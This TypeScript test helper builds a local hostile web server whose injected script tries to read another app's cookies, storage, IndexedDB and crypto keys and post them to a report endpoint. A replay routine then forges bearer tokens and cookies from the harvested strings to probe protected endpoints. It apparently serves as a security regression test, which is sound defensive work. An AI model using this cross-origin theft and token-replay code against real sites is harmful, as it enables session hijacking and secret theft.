import { createServer, type IncomingMessage, request } from "node:http";
import type { AddressInfo } from "node:net";
import { text } from "node:stream/consumers";
import { onTestFinished } from "vitest";
import { pageToken } from "../../servers/http/sign-in.ts";

/** A hostile server that the user's browser visits, and everything that it receives. */
export interface OtherServer {
  readonly url: string;
  /** Number of its pages that have reported what their script could read. */
  reports(): number;
  /** Raw requests. */
  readonly received: readonly Received[];
  close(): Promise<void>;
}

interface Received {
  readonly method: string;
  readonly url: string;
  readonly headers: readonly string[];
  readonly body: string;
}

const REPORT = "/report";

/** Listens on a new port, or on one that the board had. Its page attacks `board`. */
export async function openOtherServer(board: string, port = 0): Promise<OtherServer> {
  const received: Received[] = [];
  const server = createServer(async (asked: IncomingMessage, answer) => {
    const body = await text(asked);
    const { method = "", url = "", rawHeaders } = asked;
    received.push({ method, url, headers: rawHeaders, body });
    answer.setHeader("access-control-allow-origin", "*");
    answer.setHeader("access-control-allow-headers", "*");
    if (url.startsWith("/api/") || url.startsWith("/session")) {
      // Imitates the board, so that the board's page continues.
      answer.setHeader("content-type", "application/json");
      answer.end(JSON.stringify({ era: "0".repeat(32), proofs: ["0".repeat(64)], tracks: [] }));
      return;
    }
    answer.setHeader("content-type", "text/html");
    answer.end(`<script>(${attack})(${JSON.stringify([board, REPORT])})</script>`);
  });
  await new Promise<void>((resolve) => server.listen(port, "127.0.0.1", resolve));
  const close = () =>
    new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
  onTestFinished(close);
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/`,
    reports: () => received.filter(({ url }) => url === REPORT).length,
    received,
    close,
  };
}

/** Runs in the page of the hostile server: reads whatever it can of the board and reports it. */
async function attack([board, report]: readonly [string, string]): Promise<void> {
  const found: unknown[] = [];
  const attempt = async (what: string, read: () => unknown) => {
    try {
      found.push([what, await read()]);
    } catch (error) {
      found.push([what, String(error)]);
    }
  };
  addEventListener("message", ({ data, origin }) => found.push(["message", origin, data]));
  const frame = document.createElement("iframe");
  frame.src = board;
  document.documentElement.append(frame);
  const opened = window.open(board);
  new BroadcastChannel("waymark-events").addEventListener("message", ({ data }) =>
    found.push(["channel", data]),
  );
  await attempt("cookie", () => document.cookie);
  await attempt("referrer", () => document.referrer);
  await attempt("name", () => window.name);
  await attempt("opener", () => String(window.opener?.location.href));
  await attempt("local", () => JSON.stringify({ ...localStorage }));
  await attempt("session", () => JSON.stringify({ ...sessionStorage }));
  await attempt("databases", async () => {
    const all = [];
    for (const { name = "" } of await indexedDB.databases()) {
      const db = await new Promise<IDBDatabase>((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of db.objectStoreNames) {
        const records = await new Promise<unknown[]>((resolve, reject) => {
          const reading = db.transaction(store).objectStore(store).getAll();
          reading.onsuccess = () => resolve(reading.result);
          reading.onerror = () => reject(reading.error);
        });
        for (const record of records) {
          all.push(JSON.stringify(record));
          for (const value of [record, ...Object.values(record as object)])
            if (value instanceof CryptoKey)
              all.push(
                await crypto.subtle
                  .exportKey("jwk", value)
                  .then(JSON.stringify, (why) => `no export: ${why}`),
              );
        }
      }
    }
    return all;
  });
  for (const credentials of ["include", "omit"] as const)
    for (const mode of ["cors", "no-cors"] as const)
      for (const path of ["", "app.js", "api/tracks", "api/events", "session", "open"])
        await attempt(`${mode} ${credentials} ${path}`, async () => {
          const answer = await fetch(board + path, { mode, credentials });
          return `${answer.status} ${await answer.text()}`;
        });
  await attempt("post", async () => {
    const answer = await fetch(`${board}open`, {
      method: "POST",
      mode: "no-cors",
      credentials: "include",
      body: '{"code":""}',
    });
    return `${answer.status} ${await answer.text()}`;
  });
  await attempt(
    "event source",
    () =>
      new Promise((resolve) => {
        const source = new EventSource(`${board}api/events`, { withCredentials: true });
        source.onmessage = ({ data }) => resolve(data);
        source.onopen = () => resolve("open");
        source.onerror = () => resolve("error");
      }),
  );
  for (const tag of ["script", "img", "link"])
    await attempt(
      tag,
      () =>
        new Promise((resolve) => {
          const element = document.createElement(tag);
          if (element instanceof HTMLLinkElement) {
            element.rel = "stylesheet";
            element.href = `${board}app.css`;
          } else element.setAttribute("src", `${board}${tag === "img" ? "favicon.svg" : "app.js"}`);
          element.onload = () => resolve("loaded");
          element.onerror = () => resolve("error");
          document.documentElement.append(element);
        }),
    );
  await attempt("frame", () => frame.contentWindow?.document.documentElement.outerHTML);
  await attempt("framed storage", () => JSON.stringify({ ...frame.contentWindow?.localStorage }));
  await attempt("opened", () => `${opened?.closed} ${opened?.document.documentElement.outerHTML}`);
  await attempt("asked", () => {
    opened?.postMessage("how is the link?", "*");
    frame.contentWindow?.postMessage("how is the link?", "*");
  });
  await fetch(report, { method: "POST", body: JSON.stringify(found) });
}

/** Replays everything that the hostile server received to the board; returns the requests that succeeded. */
export async function replay(
  board: string,
  received: readonly Received[],
): Promise<readonly string[]> {
  const { port, origin } = new URL(board);
  const ask = (method: string, path: string, headers: Record<string, string>, body = "") =>
    new Promise<{ status: number; body: string }>((resolve, reject) => {
      const all = {
        ...headers,
        host: `127.0.0.1:${port}`,
        ...(body !== "" && { "content-type": "application/json" }),
      };
      const asked = request(
        { host: "127.0.0.1", port, method, path, headers: all },
        async (answer) => {
          const status = answer.statusCode ?? 0;
          if (path !== "/api/events" || status !== 200)
            resolve({ status, body: await text(answer) });
          else {
            resolve({ status, body: "a stream" });
            answer.destroy();
          }
        },
      );
      asked.on("error", reject);
      asked.end(body);
    });
  const fromPage = [
    {},
    { origin, "sec-fetch-site": "same-origin", "sec-fetch-mode": "cors" },
    { "sec-fetch-site": "none", "sec-fetch-mode": "navigate" },
  ];
  const everything = received
    .map((each) => [...each.headers, each.url, each.body].join("\n"))
    .join("\n");
  const secrets = new Set(everything.match(/[\w.-]{16,}/g));
  const sent = new Map<string, Record<string, string>>();
  for (const { headers } of received) {
    const kept: Record<string, string> = {};
    for (let at = 0; at < headers.length; at += 2) {
      const name = (headers[at] ?? "").toLowerCase();
      if (["cookie", "authorization"].includes(name) || name.startsWith("x-"))
        kept[name] = headers[at + 1] ?? "";
    }
    sent.set(JSON.stringify(kept), kept);
  }
  for (const secret of secrets) {
    sent.set(secret, { authorization: `Bearer ${secret}` });
    sent.set(`=${secret}`, { cookie: `waymark=${secret}` });
  }
  const opened: string[] = [];
  for (const key of keysIn(secrets))
    for (const until of new Set(everything.match(/\b\d{13}\b/g))) {
      const token = await pageToken(board, { key, until: Number(until) }).catch(() => undefined);
      if (token !== undefined) sent.set(token, { authorization: `Bearer ${token}` });
    }
  for (const headers of sent.values())
    for (const more of fromPage)
      for (const path of [
        "/api/tracks",
        "/api/tracks/demo~main",
        "/api/events",
        "/api/agents",
        "/mcp",
      ]) {
        const { status, body } = await ask("GET", path, { ...headers, ...more });
        if (![400, 401, 403].includes(status))
          opened.push(`${status} ${path} ${JSON.stringify(headers)} ${body.slice(0, 80)}`);
      }
  for (const code of secrets) {
    const { status, body } = await ask("POST", "/open", { origin }, JSON.stringify({ code }));
    if (![401, 410].includes(status)) opened.push(`${status} /open ${code} ${body}`);
  }
  return opened;
}

/** Candidates for a page key: 32 bytes in hex or base64url, as hex. */
function keysIn(secrets: Iterable<string>): readonly string[] {
  return [...secrets].flatMap((each) =>
    /^[0-9a-f]{64}$/.test(each)
      ? [each]
      : /^[\w-]{43}$/.test(each)
        ? [Buffer.from(each, "base64url").toString("hex")]
        : [],
  );
}
